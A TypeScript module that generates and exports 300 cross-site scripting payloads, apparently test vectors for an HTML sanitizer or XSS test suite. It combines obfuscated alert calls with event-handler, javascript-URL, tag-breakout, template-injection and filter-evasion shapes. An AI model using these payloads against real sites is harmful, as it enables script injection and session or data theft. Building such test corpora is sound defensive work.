/** Three hundred script injection payloads. */
const calls = ['alert(1)', 'alert`1`', 'top.alert(1)', 'window["al"+"ert"](1)', 'eval("alert(1)")'];
const shapes: ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src=x onerror=${call}//`,
  (call) => `<svg/onload='${call}'>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><animate onbegin='${call}' attributeName=x dur=1s></svg>`,
  (call) => `<body onload='${call}'>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<details open ontoggle='${call}'>x</details>`,
  (call) => `<input autofocus onfocus='${call}'>`,
  (call) => `<video><source onerror='${call}'></video>`,
  (call) => `<a href="javascript:${call}" id=x>x</a>`,
  (call) => `"><script>${call}</script>`,
  (call) => `'-${call}-'`,
  (call) => `\${${call}}`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</style><script>${call}</script>`,
  (call) => `<!--><script>${call}</script-->`,
  (call) => `<![CDATA[><script>${call}</script>]]>`,
  (call) => `<math><mtext></p><script>${call}</script></math>`,
  (call) => `<template><script>${call}</script></template><script>${call}</script>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
  (call) => `<style>@import'javascript:${call}'</style>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<form><button formaction="javascript:${call}" autofocus>x</button></form>`,
];
/** Returns each payload as is and after escaped HTML with a zero-width space. */
const wraps: ((payload: string) => string)[] = [(payload) => payload, (payload) => `&lt;b&gt;\u200b${payload}`];

export const payloads = shapes.flatMap((shape) => calls.flatMap((call) => wraps.map((wrap) => wrap(shape(call)))));
